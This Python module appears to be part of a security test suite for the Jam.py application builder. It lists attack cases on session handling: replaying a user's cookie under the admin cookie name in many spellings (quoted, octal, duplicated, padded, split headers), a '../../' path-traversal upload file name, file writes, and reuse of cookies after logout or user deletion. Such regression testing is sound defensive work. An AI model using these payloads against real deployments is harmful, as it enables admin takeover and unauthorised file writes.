"""Session cookies that prove more, or longer, than they should."""

import secrets
from typing import Any, Final

from support.projects import User
from support.servers import Reply

from .attack import (
    BOTH,
    JSON,
    KEEP_ALIVE,
    MARK,
    MULTIPART,
    Ask,
    Attack,
    Project,
    Site,
    Spelling,
    a_written_file,
    body_has,
    call,
    form,
    post,
    with_headers,
)

#: the builder reads a file of the project, in which stands what no other answer has
READ: Final = call("server", 0, ["server_file_info", ["wsgi.py"]], 0)
HAS_READ: Final = body_has(b"create_application")
WRITE: Final = call("server", 0, ["server_save_file", [f"static/{MARK}.html", "x"]], 0)


def rows(project: Project) -> list[Attack]:
    load = call("load", 0, None, project.task)
    return [
        Attack(
            id="builder-by-a-users-cookie",
            wants="to build with the session of any user, from a network that may build",
            who="user",
            spellings=builder_calls(READ, REPLAYS),
            got=HAS_READ,
            jam=BOTH,
            not_v5=QUOTED,  # v5 quotes it already
        ),
        Attack(
            id="builder-by-a-users-cookie-from-afar",
            wants="to build with the session of any user, from any network",
            who="user",
            spellings=builder_calls(READ, REPLAYS, {"Host": "www.example.com"}),
            got=HAS_READ,
            jam=BOTH,
            not_v5=QUOTED,  # v5 quotes it already
        ),
        Attack(
            id="files-by-a-users-cookie",
            wants="to write a file of the project with the session of any user",
            who="user",
            spellings=builder_calls(WRITE, REPLAYS),
            got=a_written_file,
            leaves="data",
            jam=BOTH,
            not_v5=QUOTED,  # v5 quotes it already
        ),
        Attack(
            id="upload-by-a-users-cookie",
            wants="to upload as the builder with it, to any folder",
            who="user",
            spellings={
                name: Ask("POST", "/upload", {**MULTIPART, **KEEP_ALIVE, "Cookie": cookie}, UPLOAD)
                for name, cookie in REPLAYS.items()
            },
            got=a_written_file,
            leaves="data",
            jam=BOTH,
            not_v5=QUOTED,  # v5 quotes it already
        ),
        Attack(
            id="builder-page-by-a-users-cookie",
            wants="the pages of the builder with the session of any user",
            who="user",
            spellings={
                name: Ask("GET", "/builder.html", {**KEEP_ALIVE, "Cookie": cookie})
                for name, cookie in REPLAYS.items()
            },
            got=body_has(b"<title>Application builder</title>"),
        ),
        Attack(
            id="builder-by-an-administrators-application-cookie",
            wants="to build with a cookie that was made for the application",
            who="user's browser",
            spellings=builder_calls(
                READ, {how: cookie.replace("clerk", "admin") for how, cookie in REPLAYS.items()}
            ),
            got=HAS_READ,
            jam=BOTH,
            not_v5=QUOTED,  # v5 quotes it already
        ),
        Attack(
            id="after-the-logout",
            wants="to go on with a stolen cookie after its user has logged out",
            who="stranger",
            spellings={
                name: after_logout(load, cookie, path)
                for name, (cookie, path) in {
                    "as it was": ("{cookie}", "/api"),
                    "in quotes": ('{name}="{value}"', "/api"),
                    "twice": ("{cookie}; {cookie}", "/api"),
                    "among others": ("a=b; {cookie}; c=d", "/api"),
                    "with blanks": ("  {name} = {value} ", "/api"),
                    "without its tag": ("{name}={bare}", "/api"),
                    "before an empty one": ("{cookie}; {name}=", "/api"),
                    "by another path": ("{cookie}", "/api/x"),
                }.items()
            },
            got=logged_in,
            leaves="data",
            jam=BOTH,
            not_v5=("in quotes", "by another path"),
        ),
        Attack(
            id="of-a-deleted-user",
            wants="to go on after one's user was deleted",
            who="user",
            spellings={
                name: of_a_deleted_user(load, cookie)
                for name, cookie in {
                    "as it was": "{cookie}",
                    "in quotes": '{name}="{value}"',
                    "twice": "{cookie}; {cookie}",
                    "among others": "a=b; {cookie}; c=d",
                    "with blanks": "  {name} = {value} ",
                    "without its tag": "{name}={bare}",
                }.items()
            },
            got=logged_in,
            leaves="data",
            jam=BOTH,
            not_v5=("in quotes",),
        ),
    ]


QUOTED: Final = ("in quotes", "in octal")
#: how one sends a value under the name of the builder's cookie
REPLAYS: Final = {
    "renamed": "admin_session_{port}={clerk.value}",
    "in quotes": 'admin_session_{port}="{clerk.value}"',
    "with both": "{clerk}; admin_session_{port}={clerk.value}",
    "with both, the other way round": "admin_session_{port}={clerk.value}; {clerk}",
    "twice": "admin_session_{port}={clerk.value}; admin_session_{port}={clerk.value}",
    "with blanks": "  admin_session_{port} = {clerk.value}  ",
    "with an empty one after it": "admin_session_{port}={clerk.value}; admin_session_{port}=",
    "among others": "a=b; c; =d; admin_session_{port}={clerk.value}; e=f",
    "after a broken one": 'a="b; admin_session_{port}={clerk.value}',
    "in octal": 'admin_session_{port}="{clerk.octal}"',
    "after four kilobytes": "a=" + "b" * 3800 + "; admin_session_{port}={clerk.value}",
    "without its tag": "admin_session_{port}={clerk.bare}",
}
UPLOAD: Final = form(
    {
        "task_id": "0",
        "item_id": "-1",
        "field_id": "-1",
        "path": "static/internal",
        "file_name": f"../../{MARK}.py",
    }
)


def builder_calls(
    body: bytes, cookies: dict[str, str], headers: dict[str, str] = KEEP_ALIVE
) -> dict[str, Spelling]:
    sent: dict[str, Spelling] = {
        how: post(body, cookie, headers={**JSON, **headers}) for how, cookie in cookies.items()
    }
    first = next(iter(cookies.values()))
    sent["in two headers"] = with_headers(
        post(body, headers={**JSON, **headers}), [("Cookie", f"{first};"), ("Cookie", "a=b")]
    )
    return sent


def parts(cookie: str) -> dict[str, str]:
    """Return the parts of a cookie by the words that stand for them."""
    name, _, value = cookie.partition("=")
    bare = value.rpartition(".")[0] or value
    return {"{cookie}": cookie, "{name}": name, "{value}": value, "{bare}": bare}


def fill(text: str, words: dict[str, str]) -> str:
    for word, value in words.items():
        text = text.replace(word, value)
    return text


def after_logout(body: bytes, cookie: str, path: str) -> Spelling:
    def send(site: Site) -> Reply:
        words = parts(site.login(site.project.clerk))
        assert logged_in(site, post(body, words["{cookie}"])(site))
        site.logout(words["{cookie}"])
        return post(body, fill(cookie, words), path)(site)

    return send


def of_a_deleted_user(body: bytes, cookie: str) -> Spelling:
    def send(site: Site) -> Reply:
        # one who was never seen before: for some seconds a look-up of a user holds
        number = secrets.randbits(40)
        clerk = site.project.clerk
        user = User(f"clerk{number}", clerk.password)
        site.change(
            "INSERT INTO SYS_USERS (ID, DELETED, F_NAME, F_LOGIN, F_PASSWORD, F_ROLE) "
            f"SELECT {number}, 0, F_NAME, '{user.login}', F_PASSWORD, F_ROLE "
            f"FROM SYS_USERS WHERE F_LOGIN = '{clerk.login}'"
        )
        words = parts(site.login(user))
        site.change(f"UPDATE SYS_USERS SET DELETED = 1 WHERE ID = {number}")
        return post(body, fill(cookie, words))(site)

    return send


def logged_in(_: Site, reply: Reply) -> bool:
    """Say whether Jam.py takes the sender for one of its users."""
    if reply.status != 200 or not reply.body:
        return False
    result: dict[str, Any] | None = reply.json["result"]
    return result is not None and result.get("status") == 9
